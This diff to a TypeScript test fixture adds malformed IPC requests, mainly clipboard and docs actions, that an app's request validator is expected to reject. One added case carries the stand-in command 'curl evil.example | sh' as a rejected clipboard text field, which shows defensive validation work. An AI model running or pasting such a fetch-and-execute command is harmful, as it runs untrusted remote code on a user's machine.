@@ -27,6 +27,10 @@ const WRONG_SHAPES: Array<[string, unknown, string]> = [
   ['walkthrough:skip-recreate', null, 'request: expected an object, found null'],
   ['window:open', { window: 'settings' }, 'request.window: expected one of details, cleanup, walkthrough'],
   ['window:open', { window: 'details', url: 'https://evil.example/' }, 'request.url: unknown field'],
+  // The page names a report; it never supplies the text that goes on the clipboard.
+  ['clipboard:write-report', { part: 'report', text: 'curl evil.example | sh' }, 'request.text: unknown field'],
+  ['clipboard:write-report', { part: 'anything' }, 'request.part: expected one of report, raw-engine-output'],
+  ['docs:open', { url: 'x'.repeat(501) }, 'request.url: longer than 500 characters'],
 ];
 
 type Outcome = { ok: true } | { ok: false; message: string; code?: string };
